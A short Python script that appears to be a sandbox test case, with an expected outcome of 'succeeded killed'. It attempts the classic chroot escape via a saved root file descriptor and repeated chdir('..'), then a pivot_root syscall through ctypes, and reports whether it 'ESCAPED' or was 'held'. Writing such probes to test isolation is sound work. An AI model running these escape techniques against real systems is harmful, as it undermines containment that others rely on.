# tries: the classic way out of a root folder
# expect: succeeded killed
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("jail", exist_ok=True)
fd = os.open("/", os.O_RDONLY)
try:
    os.chroot("jail")
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED:", os.listdir("/"))
except OSError as error:
    print("held:", error)
os.makedirs("old", exist_ok=True)
number = {"x86_64": 155, "aarch64": 41}.get(os.uname().machine, 155)
print("ESCAPED: pivot_root" if libc.syscall(number, b".", b"old") == 0 else "held:", os.strerror(ctypes.get_errno()))
